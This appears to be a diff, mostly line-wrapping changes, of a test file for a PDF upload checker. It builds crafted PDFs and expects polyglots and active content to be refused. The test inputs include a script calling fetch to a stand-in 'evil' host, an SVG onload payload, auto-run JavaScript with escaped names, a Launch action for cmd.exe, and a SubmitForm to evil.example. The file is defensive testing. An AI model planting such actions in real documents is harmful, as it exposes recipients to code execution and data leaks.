@@ -6,7 +6,8 @@ import { pdfProblem } from './pdf-check';
 // Crafted PDFs: a plain scan, then polyglots and PDFs that act when opened (decision 0018).
 
 const latin1 = (s: string) => Buffer.from(s, 'latin1');
-const stream = (dict: string, body: Buffer) => Buffer.concat([latin1(`<< ${dict} /Length ${body.length} >>\nstream\n`), body, latin1('\nendstream')]);
+const stream = (dict: string, body: Buffer) =>
+  Buffer.concat([latin1(`<< ${dict} /Length ${body.length} >>\nstream\n`), body, latin1('\nendstream')]);
 
 /** A one-page PDF with a compressed image-like stream; `extra` objects go before the trailer. */
 function pdf(extra: (string | Buffer)[] = [], opts: { catalog?: string; tail?: Buffer } = {}): Buffer {
@@ -15,7 +16,14 @@ function pdf(extra: (string | Buffer)[] = [], opts: { catalog?: string; tail?: B
     `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${opts.catalog ?? ''} >>\nendobj\n`,
     '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n',
     '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /Im0 4 0 R >> >> /Contents 5 0 R >>\nendobj\n',
-    Buffer.concat([latin1('4 0 obj\n'), stream('/Type /XObject /Subtype /Image /Width 400 /Height 500 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode', noise), latin1('\nendobj\n')]),
+    Buffer.concat([
+      latin1('4 0 obj\n'),
+      stream(
+        '/Type /XObject /Subtype /Image /Width 400 /Height 500 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode',
+        noise,
+      ),
+      latin1('\nendobj\n'),
+    ]),
     Buffer.concat([latin1('5 0 obj\n'), stream('', latin1('q 612 0 0 792 0 0 cm /Im0 Do Q')), latin1('\nendobj\n')]),
     ...extra,
   ];
@@ -31,7 +39,11 @@ function pdf(extra: (string | Buffer)[] = [], opts: { catalog?: string; tail?: B
 function objStm(num: number, objects: string, filter: 'flate' | 'hex' = 'flate') {
   const body = filter === 'flate' ? zlib.deflateSync(latin1(objects)) : latin1(`${latin1(objects).toString('hex')}>`);
   const name = filter === 'flate' ? '/FlateDecode' : '[/ASCIIHexDecode]';
-  return Buffer.concat([latin1(`${num} 0 obj\n`), stream(`/Type /ObjStm /N 1 /First 4 /Filter ${name}`, body), latin1('\nendobj\n')]);
+  return Buffer.concat([
+    latin1(`${num} 0 obj\n`),
+    stream(`/Type /ObjStm /N 1 /First 4 /Filter ${name}`, body),
+    latin1('\nendobj\n'),
+  ]);
 }
 
 const zip = () => {
@@ -49,7 +61,9 @@ describe('plain PDFs pass', () => {
     for (let i = 0; i < 20; i++) expect(pdfProblem(pdf())).toBeNull();
   });
   it('with ordinary objects in a compressed object stream, links and trailing newlines', () => {
-    const doc = pdf([objStm(6, '7 0 << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://espasyo.ph) >> >>')], { tail: latin1('\r\n\n') });
+    const doc = pdf([objStm(6, '7 0 << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://espasyo.ph) >> >>')], {
+      tail: latin1('\r\n\n'),
+    });
     expect(pdfProblem(doc)).toBeNull();
   });
 });
@@ -65,7 +79,9 @@ describe('polyglots are refused', () => {
   });
   it('a ZIP hidden before %%EOF, or a ZIP end record whose comment ends with %%EOF', () => {
     const { local, end } = zip();
-    expect(pdfProblem(pdf([Buffer.concat([latin1('6 0 obj\n'), stream('', local), latin1('\nendobj\n')])]))).toBe('other-format');
+    expect(pdfProblem(pdf([Buffer.concat([latin1('6 0 obj\n'), stream('', local), latin1('\nendobj\n')])]))).toBe(
+      'other-format',
+    );
     const comment = latin1('\n%%EOF\n');
     const endWithComment = Buffer.concat([end.subarray(0, 20), Buffer.from([comment.length, 0]), comment]);
     const doc = Buffer.concat([pdf().subarray(0, -6), endWithComment]);
@@ -73,28 +89,42 @@ describe('polyglots are refused', () => {
   });
   it('HTML in a comment or a stream', () => {
     expect(pdfProblem(pdf(['%<html><body><script>fetch("//evil")</script>\n']))).toBe('other-format');
-    expect(pdfProblem(pdf([Buffer.concat([latin1('6 0 obj\n'), stream('', latin1('<svg onload=alert(1)>')), latin1('\nendobj\n')])]))).toBe('other-format');
+    expect(
+      pdfProblem(
+        pdf([Buffer.concat([latin1('6 0 obj\n'), stream('', latin1('<svg onload=alert(1)>')), latin1('\nendobj\n')])]),
+      ),
+    ).toBe('other-format');
   });
 });
 
 describe('PDFs that act when opened are refused', () => {
   it('JavaScript on open, also spelled with #xx escapes', () => {
-    expect(pdfProblem(pdf([], { catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }))).toBe('active-content');
-    expect(pdfProblem(pdf([], { catalog: '/OpenAction << /S /J#61vaScr#69pt /JS (app.alert(1)) >>' }))).toBe('active-content');
+    expect(pdfProblem(pdf([], { catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }))).toBe(
+      'active-content',
+    );
+    expect(pdfProblem(pdf([], { catalog: '/OpenAction << /S /J#61vaScr#69pt /JS (app.alert(1)) >>' }))).toBe(
+      'active-content',
+    );
     expect(pdfProblem(pdf([], { catalog: '/Names << /JavaScript 6 0 R >>' }))).toBe('active-content');
   });
   it('launching a program, attachments, forms that send data', () => {
     expect(pdfProblem(pdf([], { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }))).toBe('active-content');
     expect(pdfProblem(pdf([], { catalog: '/Names << /EmbeddedFiles 6 0 R >>' }))).toBe('active-content');
     expect(pdfProblem(pdf([], { catalog: '/AcroForm << /XFA 6 0 R >>' }))).toBe('active-content');
-    expect(pdfProblem(pdf(['6 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj\n']))).toBe('active-content');
+    expect(pdfProblem(pdf(['6 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj\n']))).toBe(
+      'active-content',
+    );
   });
   it('JavaScript hidden in a compressed object stream', () => {
     expect(pdfProblem(pdf([objStm(6, '7 0 << /S /JavaScript /JS (app.alert(1)) >>')]))).toBe('active-content');
   });
   it('an object stream that cannot be inspected, or an encrypted PDF', () => {
     expect(pdfProblem(pdf([objStm(6, '7 0 << /S /JavaScript >>', 'hex')]))).toBe('uninspectable');
-    const broken = Buffer.concat([latin1('6 0 obj\n'), stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', latin1('not deflate')), latin1('\nendobj\n')]);
+    const broken = Buffer.concat([
+      latin1('6 0 obj\n'),
+      stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', latin1('not deflate')),
+      latin1('\nendobj\n'),
+    ]);
     expect(pdfProblem(pdf([broken]))).toBe('uninspectable');
     expect(pdfProblem(pdf([], { catalog: '/Encrypt 6 0 R' }))).toBe('encrypted');
   });
